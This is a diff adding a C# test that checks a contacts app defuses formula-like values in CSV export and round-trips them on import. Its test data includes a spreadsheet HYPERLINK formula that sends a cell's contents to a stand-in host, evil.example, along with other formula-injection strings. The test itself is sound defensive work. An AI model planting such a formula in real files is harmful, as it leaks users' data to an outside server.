@@ -89,6 +89,49 @@ public class ExportContactsTest
         }
     }
 
+    [Theory]
+    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
+    public async Task ACsvExportOfFormulaLikeValues_IsDefused_AndImportsIntoAnEmptyDatabaseAsTheSameExport(string provider)
+    {
+        var ct = TestContext.Current.CancellationToken;
+        const string name = "=HYPERLINK(\"http://evil.example/?x=\"&A1)";
+        await using var source = await TestDatabase.CreateAsync(provider);
+        var store = await source.MigratedStoreAsync();
+        var file = Path.GetTempFileName();
+        try
+        {
+            string first;
+            await using (var db = store.Open())
+            {
+                var evil = new Contact(name, At) { GivenName = "=1+1", FamilyName = "Li", Company = "+cmd", Title = "-1+2", Notes = "@SUM(A1:A9)" };
+                evil.AddPhone("+49 30 1234", "Mobile");
+                evil.SetDate(ImportantDateKind.Birthday, 12, 1, null);
+                db.Contacts.Add(evil);
+                await db.SaveChangesAsync(ct);
+                await using (var stream = File.Create(file)) await new ExportContacts(db).ExecuteAsync(ExportFormat.Csv, stream, ct);
+                first = await File.ReadAllTextAsync(file, ct);
+            }
+            Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1)\"", first, StringComparison.Ordinal);
+            Assert.Contains(",'+cmd,'-1+2,", first, StringComparison.Ordinal);
+            Assert.Contains("'+49 30 1234\tMobile", first, StringComparison.Ordinal);
+
+            await using var target = await TestDatabase.CreateAsync(provider);
+            var empty = await target.MigratedStoreAsync();
+            await using (var db = empty.Open())
+                await new App.Import.ImportNetwork(db, TimeProvider.System).ExecuteAsync(new App.Import.ImportRequest { Kind = App.Import.ImportSourceKind.Csv, Path = file }, ct);
+            await using var check = empty.Open();
+            var imported = await Microsoft.EntityFrameworkCore.EntityFrameworkQueryableExtensions.SingleAsync(check.Contacts, ct);
+            Assert.Equal((name, "=1+1", "+cmd", "-1+2", "@SUM(A1:A9)"), (imported.DisplayName, imported.GivenName, imported.Company, imported.Title, imported.Notes));
+            using var again = new MemoryStream();
+            await new ExportContacts(check).ExecuteAsync(ExportFormat.Csv, again, ct);
+            Assert.Equal(first, System.Text.Encoding.UTF8.GetString(again.ToArray()));
+        }
+        finally
+        {
+            File.Delete(file);
+        }
+    }
+
     [Fact]
     public void TheFormatsSeniorityAndTierNames_AreTheDomainsOwn()
     {
